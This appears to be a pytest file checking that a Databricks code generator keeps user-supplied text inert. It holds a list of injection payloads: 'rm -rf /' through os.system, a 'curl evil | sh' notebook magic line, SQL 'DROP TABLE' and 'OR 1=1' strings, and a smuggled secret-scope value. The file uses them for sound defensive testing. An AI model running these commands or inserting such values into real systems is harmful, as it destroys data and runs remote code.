"""Injection attempts: user text in names, descriptions, field names and conditions either fails
validation or lands in the generated code as inert text (a string literal or a comment)."""

from __future__ import annotations

import ast
import json

import pytest

from cep.codegen import generate_code
from cep.codegen.escape import comment_lines, py_literal
from cep.errors import CepError
from cep.expr import parse_condition
from cep.model import parse_pattern
from tests.codegen.kinds import PATTERNS, pattern

NASTY = [
    "x'\nimport os\nos.system('rm -rf /')\n'",
    'x"""\n__import__("os").system("id")\n"""',
    "x\\'); import os; ('",
    "name\r\n# COMMAND ----------\n# MAGIC %sh curl evil | sh",
    "x\u2028import os\u2029",
    "end\\",
    "-- ; DROP TABLE t; --",
]
# The names a generated module may define at top level; anything else would be injected code.
ALLOWED_TOP = {"PATTERN_JSON", "PATTERN_NAME", "KEY_COLUMNS", "EVENT_TIME", "WATERMARK_DELAY",
               "LATENESS_MS", "STATE_STORE_PROVIDER", "SOURCE_FILTER", "SINK_TABLE",
               "CHECKPOINT", "REJECTED_TABLE", "spark", "CepProcessor", "read_events",
               "output_schema", "build_matches", "start_query", "cep_events",
               "cep_matches_flow", "cep_rejected_events"}


def top_level_names(tree: ast.Module) -> set[str]:
    names: set[str] = set()
    for node in tree.body:
        if isinstance(node, ast.Assign):
            names |= {t.id for t in node.targets if isinstance(t, ast.Name)}
        elif isinstance(node, ast.FunctionDef | ast.ClassDef):
            names.add(node.name)
    return names


def check_inert(text: str, pattern_value: dict[str, object]) -> None:
    tree = ast.parse(text)
    statements = [type(n).__name__ for n in tree.body]
    assert set(statements) <= {"ImportFrom", "Import", "Assign", "ClassDef", "FunctionDef",
                               "If", "Expr"}, statements
    assert top_level_names(tree) <= ALLOWED_TOP
    # top-level expressions are only the decorated-call registration of the sdp flow
    for node in tree.body:
        if isinstance(node, ast.Expr):
            assert isinstance(node.value, ast.Call)
            assert ast.unparse(node.value.func) in ("dp.create_streaming_table", "spark.conf.set")
    values = {t.id: n.value for n in tree.body if isinstance(n, ast.Assign)
              for t in n.targets if isinstance(t, ast.Name)}
    literal = values["PATTERN_JSON"]
    assert isinstance(literal, ast.Constant)
    assert isinstance(literal.value, str)
    assert json.loads(literal.value) == json.loads(json.dumps(pattern_value))
    for line in text.splitlines():
        assert not line.startswith(("# COMMAND", "# MAGIC")) or line in (
            "# COMMAND ----------", f"# MAGIC %pip install {_wheel()}")


def _wheel() -> str:
    return "/Volumes/main/default/wheels/lakestream_cep-0.1.0-py3-none-any.whl"


@pytest.mark.parametrize("text", NASTY, ids=range(len(NASTY)))
@pytest.mark.parametrize("target", ["sss", "sdp"])
def test_pattern_name_and_description_stay_inert(text: str, target: str) -> None:
    try:
        p = pattern("absence", name=text, description=text * 2)
    except CepError:
        p = pattern("absence", description=text.replace("\r", ""))
    code = generate_code(p, target)
    check_inert(code.text, p.model_dump(mode="json", by_alias=True))
    assert "os.system" not in "".join(
        ln for ln in code.text.splitlines() if not ln.lstrip().startswith(("#", "PATTERN_JSON")))


@pytest.mark.parametrize("text", NASTY, ids=range(len(NASTY)))
def test_english_header_is_comment_lines_only(text: str) -> None:
    code = generate_code(pattern("absence"), "sss", description=text)
    header = code.text.split("\n#\n", 1)[0].splitlines()
    assert header[0] == "# Databricks notebook source"
    assert all(line.startswith("# |") for line in header[1:])
    sql = generate_code(pattern("match_recognize"), "sql", description=text).text
    assert all(line.startswith("-- |") for line in sql.split("\n--\n", 1)[0].splitlines())


@pytest.mark.parametrize("text", [*NASTY, "user id", "a`b", "x.y", "ts)"], ids=range(11))
def test_field_names_that_are_not_identifiers_fail_validation(text: str) -> None:
    for field, kind in (("partition_by", "absence"), ("order_by", "absence"),
                        ("value_field", "velocity"), ("id_field", "trend")):
        value = [text] if field == "partition_by" else text
        try:
            p = pattern(kind, **{field: value})
            code = generate_code(p, "sss")
        except CepError:
            continue
        # accepted only where the name never leaves the pattern's JSON literal
        check_inert(code.text, p.model_dump(mode="json", by_alias=True))
        assert field == "value_field", f"{field} {text!r} was accepted"


@pytest.mark.parametrize(
    "condition",
    ["event_type = 'a'; DROP TABLE x", "__import__('os').system('id')",
     "event_type = 'a' -- comment", "event_type = '\n'' OR 1=1"],
    ids=["statement", "python", "comment", "quote"],
)
def test_hostile_conditions_fail_validation(condition: str) -> None:
    with pytest.raises(CepError):
        generate_code(parse_pattern({**PATTERNS["absence"], "trigger": condition}), "sss")


def test_quotes_and_backslashes_in_condition_strings_stay_in_the_literal() -> None:
    trigger = "event_type = 'it''s \\ \"fine\"\"\"'"
    p = pattern("absence", trigger=trigger)
    for target in ("sss", "sdp"):
        check_inert(generate_code(p, target).text, p.model_dump(mode="json", by_alias=True))
    mr = pattern("match_recognize", define={"B": "name = 'o''brien\\' OR 1=1 --'"})
    sql = generate_code(mr, "sql").text
    define = [line for line in sql.splitlines() if line.strip().startswith("`B` AS")]
    assert len(define) == 1
    rendered = define[0].split(" AS ", 1)[1].rstrip(",")
    assert rendered == "name = 'o\\'brien\\' OR 1=1 --'"
    assert parse_condition(rendered) == parse_condition(mr.define["B"])


def test_py_literal_round_trips_every_nasty_string() -> None:
    for text in NASTY:
        code = py_literal(text)
        assert "\n" not in code
        assert "\r" not in code
        assert ast.literal_eval(code) == text
    with pytest.raises(CepError):
        py_literal(float("nan"))


def test_comment_lines_cannot_end_the_comment() -> None:
    text = comment_lines("a\rb\nc\u2028d\x0be\x00f", "#")
    assert text.splitlines() == ["# | a", "# | b", "# | c", "# | d", "# | e f"]
    ast.parse(text)


def test_secrets_only_as_dbutils_calls() -> None:
    options = {"source": {"kind": "kafka", "bootstrap_servers": "b:1", "topic": "t",
                          "secret_scope": "scope", "username_key": "u", "password_key": "p"}}
    text = generate_code(pattern("absence"), "sss", options).text
    tree = ast.parse(text)
    calls = [ast.unparse(n) for n in ast.walk(tree)
             if isinstance(n, ast.Call) and "secrets" in ast.unparse(n.func)]
    assert calls == ["dbutils.secrets.get(scope='scope', key='u')",
                     "dbutils.secrets.get(scope='scope', key='p')"]
    with pytest.raises(CepError):
        generate_code(pattern("absence"), "sss", {"source": {
            "kind": "kafka", "bootstrap_servers": "b:1", "topic": "t",
            "secret_scope": "s') or True or ('", "username_key": "u", "password_key": "p"}})
